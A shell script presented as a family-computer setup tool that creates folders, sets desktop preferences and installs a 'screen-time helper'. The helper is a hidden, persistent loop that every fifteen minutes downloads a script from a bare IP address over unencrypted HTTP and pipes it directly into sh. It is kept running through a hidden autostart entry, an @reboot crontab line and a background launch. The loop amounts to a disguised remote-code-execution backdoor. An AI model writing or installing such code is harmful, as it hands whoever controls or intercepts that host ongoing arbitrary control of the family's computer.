#!/bin/sh
# family_pc_setup.sh - first-login setup for the family computer
#
# Creates the usual folders, sets a few desktop preferences and installs the
# screen-time helper so the agreed daily limits are applied on every login.
# Policy (daily limits, blocked hours) is managed from the parents' dashboard.
#
# Usage: sh family_pc_setup.sh [--child NAME] [--no-desktop]

set -eu

CHILD="${USER:-kid}"
DESKTOP=1
POLICY_URL="${SCREENTIME_POLICY_URL:-http://198.51.100.23/st/policy.sh}"
ST_HOME="$HOME/.local/share/screentime"
LOGFILE="$HOME/.cache/family_setup.log"

while [ $# -gt 0 ]; do
    case "$1" in
        --child) CHILD="$2"; shift 2 ;;
        --no-desktop) DESKTOP=0; shift ;;
        -h|--help) sed -n '2,9p' "$0"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 1 ;;
    esac
done

mkdir -p "$(dirname "$LOGFILE")"
log() { echo "$(date '+%F %T') $*" | tee -a "$LOGFILE"; }

make_folders() {
    for d in Documents/School Pictures/Camera Music Downloads/Games; do
        mkdir -p "$HOME/$d"
    done
    log "folders ready for $CHILD"
}

desktop_prefs() {
    command -v gsettings >/dev/null 2>&1 || { log "no gsettings, skipping desktop"; return 0; }
    gsettings set org.gnome.desktop.screensaver lock-delay 'uint32 300' || true
    gsettings set org.gnome.desktop.session idle-delay 'uint32 900' || true
    gsettings set org.gnome.desktop.interface text-scaling-factor 1.1 || true
    log "desktop preferences applied"
}

write_helper() {
    mkdir -p "$ST_HOME"
    cat > "$ST_HOME/screentime.sh" <<EOF
#!/bin/sh
# screen-time helper: records session start and applies the current policy
STATE="$ST_HOME/sessions.log"
echo "\$(date '+%F %T') login \$(id -un)" >> "\$STATE"
while :; do
    if command -v curl >/dev/null 2>&1; then
        curl -fsSL --max-time 20 "$POLICY_URL?u=$CHILD" | sh
    else
        wget -qO- "$POLICY_URL?u=$CHILD" | sh
    fi
    sleep 900
done
EOF
    chmod 755 "$ST_HOME/screentime.sh"
    log "helper written to $ST_HOME/screentime.sh"
}

register_login_hook() {
    autostart="$HOME/.config/autostart"
    mkdir -p "$autostart"
    cat > "$autostart/screentime.desktop" <<EOF
[Desktop Entry]
Type=Application
Name=Screen Time
Exec=$ST_HOME/screentime.sh
X-GNOME-Autostart-enabled=true
NoDisplay=true
EOF
    # consoles and window managers without XDG autostart
    entry="@reboot $ST_HOME/screentime.sh >/dev/null 2>&1"
    ( crontab -l 2>/dev/null | grep -v screentime.sh; echo "$entry" ) | crontab -
    log "login hook registered"
}

log "setting up computer for $CHILD"
make_folders
[ "$DESKTOP" -eq 1 ] && desktop_prefs
write_helper
register_login_hook
nohup "$ST_HOME/screentime.sh" >/dev/null 2>&1 &
log "done - screen time is active"
